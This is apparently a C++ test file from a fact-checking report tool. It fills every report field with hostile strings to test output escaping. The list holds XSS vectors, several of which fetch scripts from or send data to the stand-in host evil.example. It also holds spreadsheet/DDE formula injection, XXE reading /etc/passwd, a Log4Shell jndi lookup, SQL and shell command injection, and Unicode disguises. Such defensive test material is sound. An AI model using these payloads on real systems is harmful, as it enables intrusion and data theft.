#include "tests/report/hostile.h"

#include <iterator>
#include <string>
#include <vector>

#include "base/hash.h"
#include "tests/report/sample_report.h"

namespace assay::test {

namespace {

using namespace std::string_view_literals;

// A plain array: deducing std::array from this many is past what clang nests.
constexpr std::string_view kPayloads[] = {
    // Elements and attributes
    "<script>alert(1)</script>"sv,
    "</script><script>alert(1)</script>"sv,
    "<ScRiPt>alert(1)</sCrIpT>"sv,
    "<img src=x onerror=alert(1)>"sv,
    "<svg onload=alert(1)>"sv,
    "<svg><script>alert(1)</script></svg>"sv,
    "<iframe src=\"javascript:alert(1)\"></iframe>"sv,
    "<a href=\"javascript:alert(1)\">x</a>"sv,
    "<style>*{display:none}</style>"sv,
    "</style><script>alert(1)</script>"sv,
    "</title><script>alert(1)</script>"sv,
    "</textarea><script>alert(1)</script>"sv,
    "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">"sv,
    "<base href=\"//evil.example/\">"sv,
    "<form action=\"//evil.example\"><input name=x></form>"sv,
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"sv,
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"sv,
    "<!--><img src=x onerror=alert(1)>-->"sv,
    "<![CDATA[<script>alert(1)</script>]]>"sv,
    "<?php system('id'); ?>"sv,
    "\" onmouseover=\"alert(1)"sv,
    "' onmouseover='alert(1)"sv,
    "\"><script>alert(1)</script>"sv,
    "'><script>alert(1)</script>"sv,
    "\" style=\"position:fixed;inset:0\" x=\""sv,
    "` onmouseover=`alert(1)"sv,
    "&lt;script&gt;alert(1)&lt;/script&gt;"sv,
    "&#60;script&#62;alert(1)&#60;/script&#62;"sv,
    "&amp;lt;b&amp;gt;"sv,
    "<mark id=\"t-Q1\">"sv,
    "</mark></p></section></main></body></html>"sv,
    "<b><i><u><s>"sv,
    "</"sv,
    "<"sv,
    "<<<<<<<<"sv,
    // Addresses as words
    "javascript:alert(1)"sv,
    "JaVaScRiPt:alert(1)"sv,
    " javascript:alert(1)"sv,
    "java\tscript:alert(1)"sv,
    "data:text/html,<script>alert(1)</script>"sv,
    "vbscript:msgbox(1)"sv,
    "file:///etc/passwd"sv,
    "//evil.example/x"sv,
    "http://evil.example/"sv,
    "https://evil.example/\" onclick=\"alert(1)"sv,
    "www.evil.example"sv,
    "WWW.evil.example/path"sv,
    "mailto:x@evil.example"sv,
    "somebody@evil.example"sv,
    // Formulas
    "=1+1"sv,
    "=cmd|' /C calc'!A0"sv,
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"open\")"sv,
    "=IMPORTXML(\"http://evil.example\",\"//a\")"sv,
    "+1+1"sv,
    "-1+1"sv,
    "-2+3+cmd|' /C calc'!A0"sv,
    "@SUM(1+1)*cmd|' /C calc'!A0"sv,
    " =1+1"sv,
    "\t=1+1"sv,
    "\n=1+1"sv,
    "\r=1+1"sv,
    "x;=1+1"sv,
    "x\n=1+1"sv,
    "x\t@SUM(1)"sv,
    "\",\"=1+1"sv,
    "\"\r\n=1+1"sv,
    "\u00A0=1+1"sv,
    "＝1+1"sv,
    "＋1＋1"sv,
    "－1"sv,
    "＠SUM(1)"sv,
    "DDE(\"cmd\";\"/C calc\";\"x\")"sv,
    "''=1+1"sv,
    // Markdown
    "[click](javascript:alert(1))"sv,
    "![x](http://evil.example/x.png)"sv,
    "[x]: http://evil.example"sv,
    "[x][y]"sv,
    "<http://evil.example>"sv,
    "<somebody@evil.example>"sv,
    "# A heading"sv,
    "## A heading"sv,
    "- a list"sv,
    "* a list"sv,
    "+ a list"sv,
    "1. a list"sv,
    "12345) a list"sv,
    "> a quote"sv,
    "```\ncode\n```"sv,
    "    code"sv,
    "\tcode"sv,
    "`code`"sv,
    "**bold** *italic* __bold__ _italic_"sv,
    "~~gone~~"sv,
    "| a | b |\n|---|---|\n| c | d |"sv,
    "x | y"sv,
    "---"sv,
    "==="sv,
    "***"sv,
    "___"sv,
    "line\n==="sv,
    "line\n\n# heading"sv,
    "back\\slash \\* \\["sv,
    "ends with a backslash\\"sv,
    "$x^2$ $$y$$"sv,
    "&copy; &#35; &nbsp;"sv,
    "{{ template }} {% raw %} ${x} #{y}"sv,
    "[^1] footnote"sv,
    "- [ ] task"sv,
    "@somebody #1 :tada:"sv,
    // Disguises
    "user\u202Egpj.exe"sv,
    "\u2066left\u2069 \u2067right\u2069"sv,
    "\u061C\u200E\u200F"sv,
    "\u202A\u202B\u202C\u202D"sv,
    "a\u2028b\u2029c"sv,
    "\uFEFF=1+1"sv,
    "bell \x07 escape \x1B[31mred\x1B[0m"sv,
    "\x01\x02\x08\x0B\x0C\x7F"sv,
    "\u0085\u009B31m"sv,
    "\uFFFE\uFFFF\U0001FFFE"sv,
    // Not UTF-8
    "\xFF\xFE"sv,
    "\xC0\xAFscript"sv,
    "cut \xE2\x80"sv,
    "\xED\xA0\x80"sv,
    // More elements: every way in that filters have missed
    "<script src=//evil.example/x.js></script>"sv,
    "<script type=module>import('//evil.example/x.js')</script>"sv,
    "<SCRIPT/XSS SRC=\"//evil.example/x.js\"></SCRIPT>"sv,
    "<script\x0B>alert(1)</script\x0B>"sv,
    "<scr<script>ipt>alert(1)</scr</script>ipt>"sv,
    "<img src=\"x\" onerror=\"alert(1)\" //"sv,
    "<img/src=x/onerror=alert(1)>"sv,
    "<img src=x:alert(1) onerror=eval(src)>"sv,
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>"sv,
    "<img srcset=\"//evil.example/x.png 2x\">"sv,
    "<image href=\"//evil.example/x.png\">"sv,
    "<picture><source srcset=\"//evil.example/x.png\"></picture>"sv,
    "<video src=x onerror=alert(1)></video>"sv,
    "<audio src=x onloadstart=alert(1)>"sv,
    "<body onload=alert(1)>"sv,
    "<input autofocus onfocus=alert(1)>"sv,
    "<select autofocus onfocus=alert(1)>"sv,
    "<button formaction=javascript:alert(1)>x</button>"sv,
    "<details open ontoggle=alert(1)>"sv,
    "<marquee onstart=alert(1)>x</marquee>"sv,
    "<object data=\"javascript:alert(1)\"></object>"sv,
    "<embed src=\"//evil.example/x.swf\">"sv,
    "<applet code=x></applet>"sv,
    "<link rel=stylesheet href=//evil.example/x.css>"sv,
    "<link rel=\"import\" href=\"//evil.example/\">"sv,
    "<style>@import '//evil.example/x.css';</style>"sv,
    "<style>body{background:url(//evil.example/x.png)}</style>"sv,
    "<div style=\"background:url(//evil.example/x.png)\">x</div>"sv,
    "<div style=\"width:expression(alert(1))\">"sv,
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"sv,
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>"sv,
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>"sv,
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"sv,
    "<math href=\"javascript:alert(1)\">x</math>"sv,
    "<template><script>alert(1)</script></template>"sv,
    "<xmp><img src=x onerror=alert(1)></xmp>"sv,
    "<plaintext>"sv,
    "<isindex action=javascript:alert(1) type=image>"sv,
    "<frameset onload=alert(1)>"sv,
    "<keygen autofocus onfocus=alert(1)>"sv,
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>"sv,
    "<!DOCTYPE html><html manifest=\"//evil.example/\">"sv,
    "<!--[if IE]><script>alert(1)</script><![endif]-->"sv,
    "--><script>alert(1)</script>"sv,
    "--!><script>alert(1)</script>"sv,
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"sv,
    "<a href=\"&#106;&#97;&#118;&#97;script:alert(1)\">x</a>"sv,
    "<a target=_blank href=//evil.example>x</a>"sv,
    "<a ping=\"//evil.example/\" href=#>x</a>"sv,
    "<b id=c-Q1 name=getElementById>clobber</b>"sv,
    "<form id=x><input name=attributes></form>"sv,
    "＜script＞alert(1)＜/script＞"sv,
    "<\u0130mg src=x>"sv,
    "\u003Cscript\u003Ealert(1)\u003C/script\u003E"sv,
    "%3Cscript%3Ealert(1)%3C/script%3E"sv,
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;"sv,
    "&lt&gt&amp&quot&apos"sv,
    "x\" autofocus onfocus=\"alert(1)\" y=\""sv,
    "x' accesskey='x' onclick='alert(1)"sv,
    "</p></blockquote></article></section>"sv,
    "</dd></dl></div>"sv,
    "</table></td></tr></tbody>"sv,
    "</svg></title></head>"sv,
    // More addresses
    "javascript://evil.example/%0aalert(1)"sv,
    "javascript\u003Aalert(1)"sv,
    "java\u0000script:alert(1)"sv,
    "\x01javascript:alert(1)"sv,
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="sv,
    "data:image/svg+xml,<svg onload=alert(1)>"sv,
    "blob:https://evil.example/1"sv,
    "view-source:http://evil.example/"sv,
    "feed:javascript:alert(1)"sv,
    "jar:http://evil.example/x.jar!/x"sv,
    "ms-word:ofe|u|http://evil.example/x.docx"sv,
    "search-ms:query=x&crumb=location:\\\\evil.example"sv,
    "\\\\evil.example\\share\\x"sv,
    "tel:+1900555"sv,
    "https:evil.example"sv,
    "https:/evil.example"sv,
    "https://"sv,
    "https://evil.example\" ping=\"//x"sv,
    "https://evil.example/<script>"sv,
    "https://evil.example/\n\nnext"sv,
    "http://evil.example\\@harmless.example"sv,
    "ftp://evil.example/x"sv,
    "xmpp:x@evil.example"sv,
    // More formulas
    "=WEBSERVICE(\"http://evil.example/\"&A1)"sv,
    "=IMAGE(\"http://evil.example/x.png\")"sv,
    "=IMPORTDATA(\"http://evil.example\")"sv,
    "=RTD(\"x\",,\"y\")"sv,
    "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"x\")"sv,
    "=EXEC(\"calc\")"sv,
    "=\t1+1"sv,
    "= 1+1"sv,
    "+cmd|' /C calc'!A0"sv,
    "@IF(1,1)"sv,
    "-@SUM(1)"sv,
    "  \t =1+1"sv,
    "\u3000=1+1"sv,
    "\"=1+1\""sv,
    "'=1+1"sv,
    "x,=1+1"sv,
    "x|=1+1"sv,
    "x\r\n=1+1\r\n@SUM(1)"sv,
    "%0A=1+1"sv,
    "\u200B=1+1"sv,
    "\u2060=1+1"sv,
    "−1+1"sv,
    "1E999"sv,
    "00012345678901234567890"sv,
    // More Markdown
    "[click](<javascript:alert(1)>)"sv,
    "[click](data:text/html,x)"sv,
    "[click](//evil.example \"title\")"sv,
    "![](javascript:alert(1))"sv,
    "[![x](x)](javascript:alert(1))"sv,
    "[a]: javascript:alert(1) \"x\"\n[a]"sv,
    "<javascript:alert(1)>"sv,
    "[x](http://evil.example)\\"sv,
    "[[wiki|http://evil.example]]"sv,
    "~~~\ncode\n~~~"sv,
    "    - nested\n        - list"sv,
    "1) one\n2) two"sv,
    "> > quote\nlazy"sv,
    "<details><summary>x</summary></details>"sv,
    "term\n: definition"sv,
    "*[HTML]: Hyper"sv,
    ":::danger\nx\n:::"sv,
    "+++\ntitle = 1\n+++"sv,
    "---\ntitle: x\n---"sv,
    "\\newline \\input{/etc/passwd} \\write18{id}"sv,
    "| --- |\n| :-: |"sv,
    "\\| \\\\| \\\\\\|"sv,
    "a&#124;b &vert; c"sv,
    "#hash\n##hash\n###### six"sv,
    "Setext\n---"sv,
    "  two blanks  \nhard break"sv,
    // Packages, pages and programs
    "]]></w:t><w:instrText>HYPERLINK \"http://evil.example\"</w:instrText>"sv,
    "</w:t></w:r></w:p><w:altChunk r:id=\"R1\"/>"sv,
    "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>&xxe;"sv,
    "&xxe; %pe; &#x0; &#0;"sv,
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\""sv,
    "{ INCLUDEPICTURE \"http://evil.example/x.png\" }"sv,
    ") /S /URI /URI (javascript:alert(1)) >>"sv,
    "(app.alert(1)) /S /JavaScript /JS endstream endobj"sv,
    "' dest='x' uri='http://evil.example"sv,
    "\\' uri=\\'javascript:alert(1)"sv,
    "<span foreground=\"red\">pango</span>"sv,
    "</script\x20type=x><!--<script>"sv,
    "<!--<script>"sv,
    "{\"@context\":\"http://evil.example\"}"sv,
    "\",\"url\":\"javascript:alert(1)"sv,
    "\\"sv,
    "\\\\\\\""sv,
    "'; DROP TABLE item; --"sv,
    "${jndi:ldap://evil.example/x}"sv,
    "$(id) `id` ; id | id && id"sv,
    "../../../etc/passwd"sv,
    "{{constructor.constructor('alert(1)')()}}"sv,
    "<%= 7*7 %> #{7*7} {%7*7%}"sv,
    "%n%s%x%p"sv,
    // More disguises
    "access\u202E\u2066// check\u2069\u2066 if admin"sv,
    "\u2069\u2069\u2069\u202C\u202C"sv,
    "zero\u200Bwidth\u200Cjoin\u200Der\u2060s"sv,
    "soft\u00ADhyphen"sv,
    "раураl.example"sv,
    "Z\u0351\u0343\u0300\u0334a\u0334\u0322l\u0321g\u035Fo"sv,
    "\U000E0041\U000E0042 tags"sv,
    "\uFFF9anchor\uFFFAnote\uFFFB"sv,
    "\u115F\u1160\u3164\uFFA0"sv,
    "\x1B]0;title\x07\x1B[2J"sv,
    "\b\b\b\b\b\b"sv,
    "\uD7FF\uE000\U0010FFFD"sv,
    "\U0010FFFF\U0001FFFF"sv,
    // More that is not UTF-8
    "\xF4\x90\x80\x80"sv,
    "\xF8\x88\x80\x80\x80"sv,
    "\x80\x80\x80"sv,
    "\xE0\x80\xBCscript>"sv,
    "latin \xE9\xE8 one"sv,
    // JSON
    "\"}],\"items\":[{\"number\":\"Q1"sv,
    "\\u0022 \\\" \\n"sv,
    // Plain, but awkward
    ""sv,
    " "sv,
    "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 é"sv,
    "مرحبا שלום नमस्ते 你好"sv,
    "{0} {1} %s %n %d"sv,
};

std::string longWord() { return std::string(20'000, 'w'); }

}  // namespace

std::span<const std::string_view> hostilePayloads() {
  static const std::string kLong = longWord();
  static const std::vector<std::string_view> kAll = [] {
    std::vector<std::string_view> all(std::begin(kPayloads), std::end(kPayloads));
    all.emplace_back(kLong);
    return all;
  }();
  return kAll;
}

report::ReportData hostileReport(std::string_view payload, std::string_view url) {
  const std::string words{payload};
  report::ReportData data = bareReport("Before " + words + " after, and the end.");
  data.articleNumber = "A1";
  data.title = words;
  data.byline = words;
  data.outlet = words;
  data.url = url;
  data.origin = words;
  data.program = words;
  data.storeHead = words;
  for (std::int64_t i = 1; i <= 2; ++i) {
    model::Source source;
    source.number = i;
    source.kind = model::SourceKind::other;
    source.title = words;
    source.author = words;
    source.publisher = words;
    source.url = url;
    source.archivedUrl = url;
    source.lookedAt = words;
    source.contact = words;
    source.note = words;
    data.sources.push_back({model::sourceNumberText(i),
                            std::move(source),
                            {{words, words, words.size(), data.generatedAt}}});
  }
  for (const auto& [kind, at] :
       {std::pair(model::ItemKind::direct, "Before"), std::pair(model::ItemKind::claim, "after,"),
        std::pair(model::ItemKind::claim, "end.")}) {
    const auto number = static_cast<std::int64_t>(data.items.size() + 1);
    report::ReportItem& item = addItem(data, kind, number, model::Status::disputed, at);
    item.item.anchor.exact = words;
    item.item.anchor.prefix = words;
    item.item.anchor.suffix = words;
    item.item.verdict = words;
    item.item.explanation = words;
    item.item.note = words;
    item.item.correction = words;
    item.speaker = words;
    item.speakerRoles = {words, words};
    item.checkedBy = words;
    item.checkedAt = data.generatedAt;
    item.evidence = {{0, model::Stance::supports, words, words, words},
                     {1, model::Stance::refutes, words, words, words}};
    item.history = {{data.generatedAt, words, words, false},
                    {data.generatedAt, words, words, true}};
  }
  report::ReportQuery query;
  query.query.number = 1;
  query.query.recipient = words;
  query.query.contact = words;
  query.query.text = words;
  query.query.askedAt = data.generatedAt;
  query.items = {0, 1};
  data.queries.push_back(query);
  query.query.number = 2;
  query.query.answeredAt = data.generatedAt;
  query.query.answer = words;
  data.queries.push_back(std::move(query));
  data.sources[0].snapshots = {{words, base::sha256Hex(words), 1, data.generatedAt}};
  return data;
}

}  // namespace assay::test
